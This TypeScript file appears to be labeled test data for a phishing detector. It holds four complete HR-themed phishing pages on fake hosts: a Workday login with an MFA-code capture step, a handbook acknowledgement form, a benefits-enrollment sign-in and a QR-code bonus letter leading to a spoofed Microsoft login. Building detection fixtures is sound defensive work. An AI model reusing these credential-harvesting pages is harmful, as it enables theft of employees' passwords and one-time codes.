import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, pngRoute, qrSvg, svgRoute, msCss, msLogo } from '../parts/t-kit.js';

// Reported by employees: Workday, HR policy, benefits and bonus lures — blind split.

const wdHost = 'wd5-myworkday.enrollment-portal.com';
const hbHost = 'hr-policies.hartwell-eng.co';
const bnHost = 'benefitshub-open-enrollment.com';
const qrHost = 'hartwell-payroll.docs-review.net';
const qrDest = 'bonus-letter.secure-hrdocs.com';

export const entries: Entry[] = [
  {
    id: 't-ph-workday-open-enrollment',
    label: 'phishing',
    kind: 'hr-lure',
    url: `https://${wdHost}/hartwell/login.htmld?redirect=%2Fhartwell%2Fd%2Ftask%2F2997%243.htmld`,
    body: doc(
      'Workday',
      `<style>body{margin:0;font-family:Roboto,Helvetica,sans-serif;background:#f6f7f8}
.t{height:56px;background:#0875e1;display:flex;align-items:center;padding:0 24px;color:#fff;font-weight:700;font-size:20px}
.b{max-width:400px;margin:60px auto;background:#fff;padding:32px;border-radius:8px;box-shadow:0 2px 4px rgba(0,0,0,.12)}
.b input{width:100%;height:40px;border:1px solid #a1aab3;border-radius:4px;padding:0 10px;box-sizing:border-box;margin:4px 0 14px}
.b button{width:100%;height:40px;background:#0875e1;border:0;border-radius:20px;color:#fff;font-weight:700;cursor:pointer}
.n{background:#fff7e0;padding:10px;font-size:13px;border-radius:4px;margin-bottom:14px}</style>`,
      `<div class="t">workday.</div>
<div class="b"><div class="n"><b>Action required:</b> 2027 Open Enrollment closes <b>December 5</b>. Employees who do not confirm elections will be defaulted to Employee-only coverage.</div>
<form id="wf"><label>Username</label><input name="u" autocomplete="username"><label>Password</label><input type="password" name="p"><button>Sign In</button></form>
<p style="font-size:12px;text-align:center;margin-top:16px"><a href="#">Forgot Password?</a></p>
<p style="font-size:11px;color:#777;text-align:center">&copy; 2026 Workday, Inc. All rights reserved.</p></div>
<script>
document.getElementById('wf').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('tenant','hartwell');
fetch('/hartwell/api/login',{method:'POST',body:d}).then(function(r){return r.text()}).then(function(){location.href='/hartwell/mfa.htmld'}).catch(function(){location.href='/hartwell/mfa.htmld'});};
</script>`,
    ),
    routes: {
      [`${wdHost}/hartwell/mfa.htmld`]: htmlRoute(doc('Workday', '', `<h2>Enter Verification Code</h2><p>A code has been sent to your phone ending in **47.</p><input id="c"><button onclick="fetch('/hartwell/api/otp',{method:'POST',body:document.getElementById('c').value})">Submit</button>`)),
    },
  },
  {
    id: 't-ph-hr-handbook-acknowledge',
    label: 'phishing',
    kind: 'hr-lure',
    url: `https://${hbHost}/policy/2027-employee-handbook/acknowledge?id=HW00482`,
    body: doc(
      'Employee Handbook 2027 – Acknowledgement Required',
      `<link rel="icon" href="/policy/fav.png"><style>body{margin:0;font-family:Georgia,serif;background:#f8f6f2;color:#2d2d2d}
.h{background:#1d4e89;color:#fff;padding:18px 30px;font-family:Arial}.w{max-width:820px;margin:30px auto;background:#fff;padding:34px;border:1px solid #e2ddd3}
.toc li{margin:4px 0}.ack{background:#f3f7fb;border:1px solid #c9d8ea;padding:20px;margin-top:24px;font-family:Arial}
.ack input{width:100%;padding:8px;border:1px solid #9fb2c8;margin:4px 0 10px;box-sizing:border-box}.ack button{background:#1d4e89;color:#fff;border:0;padding:10px 24px;cursor:pointer}</style>`,
      `<div class="h"><b>Hartwell Engineering</b> &middot; Human Resources</div>
<div class="w"><h1>2027 Employee Handbook</h1><p>The following policies have been updated effective January 1, 2027. All employees must read and electronically acknowledge the handbook by <b>December 12, 2026</b>. Failure to acknowledge may affect eligibility for the annual bonus cycle.</p>
<ol class="toc"><li>Remote and Hybrid Work Policy (revised)</li><li>Paid Time Off and Holiday Schedule</li><li>Code of Conduct and Anti-Harassment</li><li>Expense Reimbursement (new per-diem rates)</li><li>Information Security Acceptable Use</li><li>Disciplinary Procedure</li></ol>
<div class="ack"><b>Electronic acknowledgement</b><p style="font-size:13px">Sign in with your corporate email account to record your acknowledgement.</p>
<form method="post" action="/policy/2027-employee-handbook/submit"><label>Corporate email</label><input type="email" name="email" required><label>Password</label><input type="password" name="password" required>
<label><input type="checkbox" required style="width:auto"> I have read and agree to comply with the 2027 Employee Handbook.</label><br><br><button>Acknowledge</button></form></div>
<p style="font-size:12px;color:#888">Questions: hr@hartwell-eng.co &middot; This communication is confidential.</p></div>`,
    ),
    routes: { [`${hbHost}/policy/fav.png`]: pngRoute(29, 78, 137) },
  },
  {
    id: 't-ph-benefits-hub-enrollment',
    label: 'phishing',
    kind: 'benefits-lure',
    url: `https://${bnHost}/enroll/hartwell-engineering?utm_source=email&utm_campaign=oe2027`,
    body: doc(
      'BenefitsHub | Open Enrollment 2027',
      `<style>body{margin:0;font-family:"Source Sans Pro",Arial,sans-serif;background:#fff;color:#1f2d3d}
.hero{background:#14806b;color:#fff;padding:40px 30px}.hero h1{margin:0 0 8px}
.w{max-width:980px;margin:0 auto;display:grid;grid-template-columns:1fr 360px;gap:30px;padding:30px}
.f{border:1px solid #dfe6ec;border-radius:8px;padding:24px}.f input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #b9c6d2;border-radius:4px;box-sizing:border-box}
.f button{width:100%;padding:12px;background:#14806b;color:#fff;border:0;border-radius:4px;font-weight:700;cursor:pointer}
.pl{display:flex;gap:14px}.pl div{flex:1;border:1px solid #e2e8ee;border-radius:6px;padding:14px}</style>`,
      `<div class="hero"><div style="max-width:980px;margin:0 auto"><h1>Open Enrollment is now live</h1><p>Hartwell Engineering &middot; Plan year 2027 &middot; Enrollment window: Nov 18 &ndash; Dec 5</p></div></div>
<div class="w"><div><h2>Compare your 2027 plans</h2><div class="pl"><div><b>PPO 500</b><br>$112/pay period</div><div><b>HDHP + HSA</b><br>$48/pay period</div><div><b>HMO Select</b><br>$86/pay period</div></div>
<p>New this year: company HSA contribution increased to $1,200, expanded mental health coverage, and a one-time <b>$250 wellness credit</b> for employees who confirm elections before December 1.</p></div>
<div class="f"><h3 style="margin-top:0">Sign in to enroll</h3><form id="bf"><label>Work email</label><input type="email" name="e" required><label>Password</label><input type="password" name="p" required><label>Employee ID</label><input name="eid" required><button>Continue</button></form>
<p style="font-size:12px;color:#6a7a8a">Use the same credentials you use for Outlook and Teams.</p></div></div>
<footer style="text-align:center;font-size:12px;color:#888;padding:20px">&copy; 2026 BenefitsHub Administration Services &middot; Privacy &middot; Accessibility</footer>
<script>document.getElementById('bf').onsubmit=function(e){e.preventDefault();fetch('/enroll/api/session',{method:'POST',body:new FormData(this)}).finally(function(){location.href='/enroll/hartwell-engineering/elections'})};</script>`,
    ),
  },
  {
    id: 't-ph-qr-bonus-letter',
    label: 'phishing',
    kind: 'qr-lure',
    url: `https://${qrHost}/share/Q4_Bonus_Distribution.html`,
    body: doc(
      'Q4 Bonus Distribution – Secure Document',
      `<style>body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3}
.d{max-width:600px;margin:40px auto;background:#fff;padding:36px;border-top:6px solid #0f6cbd;box-shadow:0 2px 8px rgba(0,0,0,.1)}
.q{text-align:center;margin:24px 0}.q img{border:10px solid #fff;box-shadow:0 0 0 1px #ddd}.s{font-size:12px;color:#777}</style>`,
      `<div class="d"><div style="font-size:13px;color:#0f6cbd;font-weight:600">Payroll &amp; Compensation</div>
<h2>Q4 Bonus Distribution &amp; Salary Review</h2>
<p>Hello,</p><p>Your Q4 performance bonus letter has been prepared and is awaiting your review and e-signature. For security reasons, the document can only be opened on a <b>mobile device</b> enrolled in company MFA.</p>
<div class="q"><img src="/share/qr.svg" width="200" height="200" alt="Scan QR code"><div class="s">Scan with your phone camera</div></div>
<p>This QR code expires in 24 hours. Do not forward &mdash; the link is tied to your employee profile.</p>
<p class="s">Hartwell Engineering Payroll Department &middot; Ref: BON-Q4-00482<br>Microsoft 365 Secure Message</p></div>`,
    ),
    routes: {
      [`${qrHost}/share/qr.svg`]: svgRoute(qrSvg(`https://${qrDest}/m/?e=hw00482`)),
      [`${qrDest}/m/`]: htmlRoute(doc('Sign in', `<style>${msCss}</style>`, `<div class="card"><div>${msLogo}</div><h1>Sign in</h1><p class="small">to view Q4_Bonus_Letter.pdf</p><form method="post" action="/m/p"><input type="email" name="e" placeholder="Email"><input type="password" name="p" placeholder="Password"><div class="row"><button class="btn">Sign in</button></div></form></div>`)),
    },
  },
];
